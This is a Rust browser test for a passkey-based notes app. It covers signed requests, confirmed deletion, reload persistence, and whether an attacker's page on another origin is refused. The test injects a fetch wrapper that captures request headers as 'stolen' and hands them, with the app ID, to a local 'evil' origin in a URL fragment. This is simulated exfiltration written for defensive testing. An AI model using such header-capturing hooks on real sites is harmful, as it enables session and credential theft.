//! The notes app in a browser, on its own origin: signed requests, a confirmed deletion, a reload, and an attacker's page.

use passkey_accounts_tests::chromium::{Chromium, Page, Stored, VirtualAuthenticator};
use serde_json::{Value, json};

use super::{
    dist,
    login::{submit, wait_for_screen},
};
use crate::notes::Dev;

const EMAIL: &str = "ada@shop.example";

/// The app as a person uses it.
struct Notes<'a> {
    dev: &'a Dev,
    page: Page,
}

impl<'a> Notes<'a> {
    async fn open(browser: &Chromium, dev: &'a Dev) -> Self {
        // The server holds the package that it was built with; a stale or missing one must not go unnoticed.
        assert!(dist().is_dir());
        let page = browser.open(&dev.origin("app")).await.unwrap();
        page.add_authenticator(VirtualAuthenticator::default()).await.unwrap();
        Self { dev, page }
    }

    async fn run(&self, script: &str) -> Value {
        self.page.evaluate(script).await.unwrap()
    }

    async fn sign_up(&self) {
        wait_for_screen(&self.page, "address").await;
        self.run("document.querySelector('passkey-login').mode = 'sign-up'").await;
        submit(&self.page, EMAIL).await;
        wait_for_screen(&self.page, "code").await;
        let code = self.dev.mailed_code(EMAIL).await;
        submit(&self.page, &code).await;
        self.wait_until("!document.getElementById('board').hidden").await;
    }

    async fn add(&self, text: &str) {
        let script = format!(
            "(() => {{
                document.getElementById('text').value = '{text}';
                document.getElementById('form-add').requestSubmit();
            }})()"
        );
        self.run(&script).await;
    }

    /// Waits until these are the notes.
    async fn wait_for_notes(&self, texts: &[&str]) {
        let texts = json!(texts).to_string();
        let shown =
            "JSON.stringify([...document.querySelectorAll('#notes span')].map((note) => note.textContent))";
        self.wait_until(&format!("{shown} === '{texts}'")).await;
    }

    async fn wait_until(&self, condition: &str) {
        self.page.wait_until(condition).await.unwrap();
    }

    async fn press_delete(&self, text: &str) {
        self.run(&format!("document.querySelector('[aria-label=\"Delete: {text}\"]').click()")).await;
        self.wait_until("document.getElementById('confirm').open").await;
        let shown = self.run("document.getElementById('confirm-text').textContent").await;
        assert_eq!(shown, text, "what is signed is shown before");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn notes_are_kept_over_a_reload_deleted_when_confirmed_and_closed_to_other_origins() {
    let dev = Dev::start();
    let browser = Chromium::launch().await.unwrap();
    let notes = Notes::open(&browser, &dev).await;
    notes.sign_up().await;
    notes.wait_until("document.getElementById('live').textContent === 'Live'").await;
    // What an attacker would steal: everything that the page sends.
    let catch = "{
        const real = globalThis.fetch;
        globalThis.fetch = (...given) => {
            const [address, init] = given;
            globalThis.stolen = Object.fromEntries(new Headers(address.headers ?? init?.headers));
            return real(...given);
        };
    }";
    notes.run(catch).await;
    notes.add("milk").await;
    notes.wait_for_notes(&["milk"]).await;
    let headers = notes.run("stolen").await;
    assert!(headers["signature"].is_string(), "{headers}");
    notes.add("bread").await;
    notes.wait_for_notes(&["milk", "bread"]).await;

    notes.page.navigate(&dev.origin("app")).await.unwrap();
    notes.wait_for_notes(&["milk", "bread"]).await;
    notes.press_delete("milk").await;
    notes.run("document.getElementById('confirm-no').click()").await;
    notes.press_delete("milk").await;
    notes.run("document.getElementById('confirm-yes').click()").await;
    notes.wait_for_notes(&["bread"]).await;
    assert_eq!(notes.page.stored().await.unwrap(), Stored::default(), "with a session open");

    let app =
        notes.run("fetch('/config.json').then((answer) => answer.json()).then(({ appID }) => appID)").await;
    let stolen = json!({ "app": app, "headers": headers });
    let fragment = notes.run(&format!("encodeURIComponent(JSON.stringify({stolen}))")).await;
    let evil = format!("{}/#{}", dev.origin("evil"), fragment.as_str().unwrap());
    let evil = browser.open(&evil).await.unwrap();
    evil.wait_until("document.body.dataset.done === 'true'").await.unwrap();
    let verdicts = "Object.fromEntries([...document.querySelectorAll('tr[data-attack]')]
        .map(({ dataset }) => [dataset.attack, dataset.result]))";
    let verdicts = evil.evaluate(verdicts).await.unwrap();
    for attack in [
        "read-notes",
        "read-notes-blind",
        "stolen-proof",
        "live-socket",
        "gateway-socket",
        "events-socket",
        "passkey",
        "frame",
    ] {
        assert_eq!(verdicts[attack], "refused", "{attack}: {verdicts}");
    }
    notes.add("eggs").await;
    notes.wait_for_notes(&["bread", "eggs"]).await;
    notes.run("document.getElementById('sign-out').click()").await;
    notes.wait_until("document.getElementById('board').hidden").await;
    assert_eq!(notes.page.logged(), [""; 0], "nothing to complain about");
}
